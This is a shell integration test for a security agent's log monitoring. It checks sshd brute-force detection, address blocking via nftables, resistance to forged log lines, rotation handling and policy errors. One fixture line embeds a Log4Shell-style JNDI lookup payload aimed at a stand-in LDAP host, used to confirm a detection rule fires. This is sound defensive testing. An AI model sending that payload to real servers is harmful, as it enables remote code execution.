#!/bin/sh
# Log inspection: the shipped rules pass their own tests; a running agent follows a log, tells of failed
# logins by sshd, and blocks the address that tries too often, but none that somebody only wrote into
# the log; rotation loses no line; what was written while the agent was away is read afterwards.
. "$(dirname "$0")/agent-lib.sh"
topology
RULES=$(dirname "$0")/../../content/logs
"$AGENT" logs test --self --rules "$RULES" > "$T/self" 2>&1 || fail "self-test: $(cat "$T/self")"
echo '192.0.2.1 - - [02/Jan/2026:03:04:05 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://192.0.2.2/a}"' | tee "$T/lines" > "$T/error.txt"
"$AGENT" logs test --rules "$RULES" "$T/lines" | grep -q 'rule 102013 ' || fail "lines of any log: $("$AGENT" logs test --rules "$RULES" "$T/lines")"
"$AGENT" logs test --rules "$RULES" "$T/error.txt" 2> /dev/null | grep -q 'no decoder' || fail "an access line in an error log was decoded"
mkdir -p "$T/bundle/logs" "$T/logs" && chmod 755 "$T/logs" && cp "$RULES"/*.yaml "$T/bundle/logs/"
policy() { echo "{\"version\":$1,\"logs\":{\"mode\":\"$2\",\"level\":${3:-3},\"journal\":false,\"files\":[\"$T/logs/auth.log\"]}}" > "$T/bundle/policy.json"; }
failed() { echo "Jan  2 03:04:05 host sshd[77]: Failed password for $1 from $2 port 4711 ssh2" >> "${3:-$T/logs/auth.log}"; }
blocked() { dev nft list table inet sekisho 2>/dev/null | grep -q "$1"; }
failed old 192.0.2.1
policy 1 detect
start_agent
ready sh -c "'$AGENT' --config '$T/agent.yaml' doctor | grep -q 'logs *full'" || fail "doctor: $(agent doctor)"
for i in 1 2 3 4 5; do failed root 10.99.0.66; done
expect_event '.event_type=="log" and .log.rule==100010 and .src_ip=="10.99.0.66" and .layer=="device"'
grep -q '192.0.2.1' "$EVENTS" && fail "lines from before the start are told"
[ "$(jq -c 'select(.event_type=="attacker")' "$EVENTS" | wc -l)" = 0 ] || fail "detect mode blocks"
policy 2 prevent
reload
ready sh -c "'$AGENT' --config '$T/agent.yaml' doctor | grep -q 'logs *full'" || fail "doctor"
# Text of the client that looks like a line of sshd must not block whom it names.
for i in $(seq 8); do failed "x from 10.99.0.2 port 1 ssh2" 127.0.0.1; failed "invalid user y" not-an-address; done
for i in $(seq 8); do echo "Jan  2 03:04:05 host other[77]: Failed password for root from 10.99.0.2 port 1 ssh2" >> "$T/logs/auth.log"; done
for i in 1 2 3 4 5; do failed root 10.99.0.66; done
expect_event '.event_type=="attacker" and .action=="blocked" and .attacker.ip=="10.99.0.66" and .attacker.ttl_s==3600'
if command -v nft > /dev/null && dev nft list table inet sekisho > /dev/null 2>&1; then
    ready blocked 10.99.0.66 || fail "not in the block set"
    blocked 10.99.0.2/ && fail "a forged address is blocked"
fi
jq -c 'select(.event_type=="attacker") | .attacker.ip' "$EVENTS" | grep -q '10.99.0.2"' && fail "a forged address is an attacker"
# Rotation: renamed and made anew while lines come, then copied and cut.
rm -f "$EVENTS"
for n in $(seq 1 300); do
    failed "u$n" "10.1.0.$((n % 250))"
    [ $n = 100 ] && mv "$T/logs/auth.log" "$T/logs/auth.log.1" && failed late 10.2.0.1 "$T/logs/auth.log.1" && : > "$T/logs/auth.log"
    if [ $n = 200 ]; then sleep 0.5; cp "$T/logs/auth.log" "$T/logs/auth.log.2"; : > "$T/logs/auth.log"; fi
done
seen() { jq -r 'select(.log.rule==100001) | .log.fields.user' "$EVENTS" 2>/dev/null | sort -u | wc -l; }
"$AGENT" logs watch --rules "$RULES" --file "$T/logs/auth.log" --from-start --positions "$T/positions" --events "$T/own" 2> "$T/watch.log" & W=$!
for i in $(seq 60); do grep -q u300 "$T/own" 2>/dev/null && break; sleep 0.05; done
kill $W; wait $W
for i in $(seq 100); do held=$(jq -s 'map(select(.log.count != null and .log.rule == null) | .log.count) | add // 0' "$EVENTS" 2>/dev/null); [ "$(( $(seen) + ${held:-0} ))" -ge 301 ] && break; sleep 0.15; done
[ "$(( $(seen) + held ))" -ge 301 ] || fail "lines lost in rotation: $(seen) users and $held told as one, of 301"
# While nobody follows: more lines, and a rotation in between.
failed away1 10.3.0.1
mv "$T/logs/auth.log" "$T/logs/auth.log.3"
failed away2 10.3.0.2
rm "$T/own"
"$AGENT" logs watch --rules "$RULES" --file "$T/logs/auth.log" --from-start --positions "$T/positions" --events "$T/own" 2> "$T/watch.log" & W=$!
for i in $(seq 60); do [ "$(grep -c away "$T/own" 2>/dev/null)" = 2 ] && break; sleep 0.05; done
kill $W; wait $W
[ "$(grep -c '"rule":100001' "$T/own")" = 2 ] || fail "what was written in between: $(cat "$T/own")"
# A wrong rule file is named, and the rules that are installed or none hold; the agent goes on.
sed -i 's/\^Failed (/^Failed ((/' "$T/bundle/logs/sshd.yaml"
reload
ready sh -c "'$AGENT' --config '$T/agent.yaml' doctor | grep -q 'logs.*sshd.yaml:[0-9]*: decoders.0.pattern'" || fail "a wrong rule is not named: $(agent doctor | grep logs)"
policy 3 off
reload
ready sh -c "'$AGENT' --config '$T/agent.yaml' doctor | grep -q 'logs *absent *off by policy'" || fail "off"
pgrep -P "$(pgrep -P $AGENT_PID | head -1)" -x sekisho-logs && fail "an unused duty runs"
echo '{"version":4,"logs":{"mode":"loud"}}' > "$T/bundle/policy.json"
reload "logs.mode: found 'loud', expected prevent, detect or off"
exit 0
